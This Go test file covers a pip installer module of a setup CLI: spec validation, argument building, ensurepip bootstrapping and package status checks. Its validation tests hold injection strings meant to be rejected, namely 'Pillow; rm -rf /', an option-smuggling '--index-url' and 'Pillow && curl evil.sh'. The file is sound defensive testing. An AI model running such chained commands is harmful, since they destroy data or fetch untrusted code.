// SPDX-License-Identifier: MPL-2.0

package pip

import (
	"context"
	"os/exec"
	"strings"
	"testing"

	"bgsetup-cli/internal/config"
	"bgsetup-cli/internal/python"
)

// stubRunner replaces the runCommand seam and records invocations. The reply
// function receives the command's argv joined with spaces.
func stubRunner(t *testing.T, reply func(argv string) *Result) *[]string {
	t.Helper()
	orig := runCommand
	t.Cleanup(func() { runCommand = orig })

	var calls []string
	runCommand = func(cmd *exec.Cmd) *Result {
		argv := strings.Join(cmd.Args, " ")
		calls = append(calls, argv)
		return reply(argv)
	}
	return &calls
}

func testInstaller(cfg config.PipConfig) *Installer {
	return NewInstaller(python.Interpreter{Path: "python3", Version: "3.11.0"}, cfg)
}

func TestValidateSpecs(t *testing.T) {
	tests := []struct {
		name    string
		spec    string
		wantErr bool
	}{
		{name: "plain", spec: "Pillow"},
		{name: "extras", spec: "rembg[cpu]"},
		{name: "pinned", spec: "PyQt5==5.15.10"},
		{name: "minimum", spec: "Pillow>=10.0"},
		{name: "shell metachars", spec: "Pillow; rm -rf /", wantErr: true},
		{name: "option smuggling", spec: "--index-url", wantErr: true},
		{name: "empty", spec: "", wantErr: true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateSpecs([]string{tt.spec})
			if tt.wantErr && err == nil {
				t.Errorf("ValidateSpecs(%q) should fail", tt.spec)
			}
			if !tt.wantErr && err != nil {
				t.Errorf("ValidateSpecs(%q) = %v", tt.spec, err)
			}
		})
	}
}

func TestBaseName(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Pillow", "Pillow"},
		{"rembg[cpu]", "rembg"},
		{"PyQt5==5.15.10", "PyQt5"},
		{"Pillow>=10.0", "Pillow"},
		{"rembg[cpu]>=2.0", "rembg"},
	}
	for _, tt := range tests {
		if got := BaseName(tt.in); got != tt.want {
			t.Errorf("BaseName(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestInstallArgs(t *testing.T) {
	tests := []struct {
		name string
		cfg  config.PipConfig
		want string
	}{
		{
			name: "defaults",
			cfg:  config.PipConfig{Packages: []string{"PyQt5", "Pillow", "rembg[cpu]"}},
			want: "-m pip install PyQt5 Pillow rembg[cpu]",
		},
		{
			name: "upgrade",
			cfg:  config.PipConfig{Packages: []string{"Pillow"}, Upgrade: true},
			want: "-m pip install --upgrade Pillow",
		},
		{
			name: "custom index",
			cfg:  config.PipConfig{Packages: []string{"Pillow"}, IndexURL: "https://mirror.example/simple"},
			want: "-m pip install --index-url https://mirror.example/simple Pillow",
		},
		{
			name: "extra args precede packages",
			cfg:  config.PipConfig{Packages: []string{"Pillow"}, ExtraArgs: []string{"--no-cache-dir"}},
			want: "-m pip install --no-cache-dir Pillow",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := strings.Join(testInstaller(tt.cfg).InstallArgs(), " ")
			if got != tt.want {
				t.Errorf("InstallArgs() = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestInstall_RejectsInvalidSpec(t *testing.T) {
	in := testInstaller(config.PipConfig{Packages: []string{"Pillow && curl evil.sh"}})
	err := in.Install(context.Background(), nil, nil)
	if err == nil {
		t.Fatal("Install() should reject invalid specs before running pip")
	}
}

func TestEnsurePip_AlreadyPresent(t *testing.T) {
	calls := stubRunner(t, func(string) *Result { return &Result{} })

	in := testInstaller(config.PipConfig{Packages: []string{"Pillow"}})
	if err := in.EnsurePip(context.Background()); err != nil {
		t.Fatalf("EnsurePip() error: %v", err)
	}
	if len(*calls) != 1 || !strings.Contains((*calls)[0], "-m pip --version") {
		t.Errorf("expected a single pip --version probe, got %v", *calls)
	}
}

func TestEnsurePip_Bootstraps(t *testing.T) {
	calls := stubRunner(t, func(argv string) *Result {
		if strings.Contains(argv, "pip --version") {
			return &Result{ExitCode: 1, ErrOutput: "No module named pip"}
		}
		return &Result{}
	})

	in := testInstaller(config.PipConfig{Packages: []string{"Pillow"}})
	if err := in.EnsurePip(context.Background()); err != nil {
		t.Fatalf("EnsurePip() error: %v", err)
	}
	if len(*calls) != 2 || !strings.Contains((*calls)[1], "-m ensurepip --upgrade") {
		t.Errorf("expected ensurepip bootstrap, got %v", *calls)
	}
}

func TestEnsurePip_BootstrapFails(t *testing.T) {
	stubRunner(t, func(argv string) *Result {
		return &Result{ExitCode: 1, ErrOutput: "broken"}
	})

	in := testInstaller(config.PipConfig{Packages: []string{"Pillow"}})
	if err := in.EnsurePip(context.Background()); err == nil {
		t.Fatal("EnsurePip() should surface the ensurepip failure")
	}
}

func TestStatus(t *testing.T) {
	stubRunner(t, func(argv string) *Result {
		switch {
		case strings.Contains(argv, "show Pillow"):
			return &Result{Output: "Name: Pillow\nVersion: 10.3.0\n"}
		case strings.Contains(argv, "show rembg"):
			return &Result{ExitCode: 1, ErrOutput: "WARNING: Package(s) not found: rembg"}
		default:
			return &Result{ExitCode: 1}
		}
	})

	in := testInstaller(config.PipConfig{Packages: []string{"Pillow", "rembg[cpu]"}})
	statuses, err := in.Status(context.Background())
	if err != nil {
		t.Fatalf("Status() error: %v", err)
	}
	if len(statuses) != 2 {
		t.Fatalf("Status() returned %d entries", len(statuses))
	}

	if !statuses[0].Installed || statuses[0].Version != "10.3.0" {
		t.Errorf("Pillow status = %+v", statuses[0])
	}
	if statuses[1].Installed {
		t.Errorf("rembg should be missing, got %+v", statuses[1])
	}
	if statuses[1].Spec != "rembg[cpu]" || statuses[1].Name != "rembg" {
		t.Errorf("rembg identity = %+v", statuses[1])
	}
}

func TestResult_Succeeded(t *testing.T) {
	if !(&Result{}).Succeeded() {
		t.Error("zero Result should be success")
	}
	if (&Result{ExitCode: 1}).Succeeded() {
		t.Error("non-zero exit should not be success")
	}
	if (&Result{Error: exec.ErrNotFound}).Succeeded() {
		t.Error("infrastructure failure should not be success")
	}
}
